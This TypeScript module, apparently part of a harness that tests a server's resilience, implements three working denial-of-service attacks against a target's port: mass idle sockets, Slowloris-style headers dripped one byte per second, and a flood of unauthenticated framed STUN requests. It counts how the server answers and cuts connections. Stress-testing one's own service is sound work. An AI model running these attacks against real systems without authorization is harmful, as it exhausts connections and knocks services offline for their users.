import { connect, type Socket } from 'node:net';
import { strangers } from '../../measure/strangers.ts';
import type { Attack, AttackTools } from './attack.ts';
import { pace } from './pace.ts';

/** Sockets that one attack holds at most: twice the cap of an address in the target. */
const MOST = 400;
const OPENED_PER_SECOND = 150;
/** A byte of a header this often, ms: each byte is a sign of life. */
const DRIP_MS = 1_000;
/** One connection each, which is cut at its first request. */
const STUN_PER_SECOND = 100;

/** Opens sockets to the page's port as long as fewer than MOST are open; what the server says, and that it cuts, is counted. */
function open({ place, count, over }: AttackTools, perSecond: number, begin: (socket: Socket) => void): Promise<void> {
  const { hostname, port } = new URL(place.url);
  let held = 0;
  return pace(perSecond, over, () => {
    if (held >= MOST) return;
    held += 1;
    const socket = connect(Number(port), hostname);
    socket.on('connect', () => {
      count('connections opened');
      begin(socket);
    });
    socket.on('error', (error: NodeJS.ErrnoException) => {
      if (error.code === 'ECONNREFUSED') count('connections refused');
    });
    socket.on('data', (data) => {
      const [, status] = /^HTTP\/1\.1 (\d{3})/.exec(data.toString('latin1')) ?? [];
      if (status !== undefined) count(`answered ${status}`);
    });
    socket.on('close', () => {
      held -= 1;
      if (!over.aborted) count('cut by the server');
    });
    over.addEventListener('abort', () => socket.destroy(), { once: true });
  });
}

export const idleSockets: Attack = {
  what: 'sockets that say nothing',
  run: (tools) => open(tools, OPENED_PER_SECOND, () => {}),
};

export const slowHeaders: Attack = {
  what: 'requests whose headers come byte by byte and never end',
  run: (tools) =>
    open(tools, OPENED_PER_SECOND, (socket) => {
      socket.write('GET / HTTP/1.1\r\nHost: x\r\nX-Slow: ');
      const drip = setInterval(() => socket.write('a') && tools.count('bytes dripped'), DRIP_MS);
      socket.once('close', () => clearInterval(drip));
    }),
};

export const stunByTcp: Attack = {
  what: 'framed STUN without credentials to the page’s port',
  run: (tools) =>
    open(tools, STUN_PER_SECOND, (socket) => {
      const request = strangers['STUN of nobody']();
      const length = Buffer.alloc(2);
      length.writeUInt16BE(request.length);
      socket.write(Buffer.concat([length, request]), () => tools.count('requests sent'));
    }),
};
